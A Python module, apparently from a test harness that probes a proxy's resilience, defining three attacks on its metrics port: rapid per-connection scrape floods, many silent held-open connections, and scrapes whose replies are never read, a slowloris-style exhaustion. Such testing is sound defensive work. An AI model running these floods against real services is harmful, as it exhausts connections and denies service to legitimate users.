"""What somebody in the network can do with the metrics' port."""

from __future__ import annotations

import contextlib
import socket

from attacks import ways
from attacks.http2_client import Connection
from attacks.strangers import connect
from attacks.world import ATTACKERS_ADDRESS, Tally, Target

_GET = b"GET /metrics HTTP/1.1\r\nHost: proxy\r\nAccept: application/openmetrics-text\r\n\r\n"
_READ_BYTES = 1 << 18
_MANY = 300
# The attack sees how it goes on after so long; to be held up is what it is there for.
_PATIENCE_SECS = 0.5


def at_full_speed(target: Target, tally: Tally) -> None:
    """Scrapes, each on a connection of its own, as fast as they are answered."""

    def once() -> None:
        with socket.create_connection(target.metrics, _PATIENCE_SECS, (ATTACKERS_ADDRESS, 0)) as connection:
            connection.sendall(_GET)
            while chunk := connection.recv(_READ_BYTES):
                tally.add("bytes read", len(chunk))

    ways.again(tally, once, 32)


def silent(target: Target, tally: Tally) -> None:
    """Connections without a byte: as many as the port accepts in some seconds, since more would wait to be accepted."""
    ways.hold(tally, lambda _: connect(target.metrics, greets=False), target.count(_MANY), reads=False)


def unread(target: Target, tally: Tally) -> None:
    """Scrapes of which nothing is read, on connections that stay open."""

    def open_one(_: int) -> Connection:
        connection = connect(target.metrics, greets=False, receive_buffer=4096)
        with contextlib.suppress(OSError):
            connection.send(_GET)
        return connection

    ways.hold(tally, open_one, target.count(_MANY), reads=False)
